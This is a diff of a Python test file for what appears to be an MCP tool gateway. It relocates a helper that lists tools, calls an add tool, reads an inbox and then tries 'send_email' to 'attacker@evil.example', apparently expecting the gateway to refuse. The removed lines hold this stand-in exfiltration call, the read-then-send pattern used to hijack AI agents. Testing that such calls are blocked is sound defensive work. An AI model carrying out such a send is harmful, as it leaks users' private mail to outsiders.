@@ -15,10 +15,9 @@ import subprocess
 import sys
 
 import pytest
-from mcp import Client
-
-from cluster import Cluster, Process, http
+from cluster import Cluster, Process
 from conftest import _binary
+from test_mcp import session_flow
 
 ROOT = os.path.join(os.path.dirname(__file__), "..", "..")
 
@@ -66,17 +65,6 @@ def gateway():
     finally:
         fixture.stop()
         c.stop()
-
-
-async def session_flow(url, mode, server):
-    async with Client(url, mode=mode) as client:
-        names = [t.name for t in (await client.list_tools()).tools]
-        assert names == sorted(names) and f"{server}__add" in names, names
-        added = await client.call_tool(f"{server}__add", {"a": 2, "b": 40})
-        assert not added.is_error and added.content[0].text == "42", added
-        await client.call_tool(f"{server}__read_inbox", {})
-        refused = await client.call_tool(f"{server}__send_email", {"to": "attacker@evil.example"})
-        return client.protocol_version, refused
 
 
 @pytest.mark.parametrize("server", ["mail", "local"])
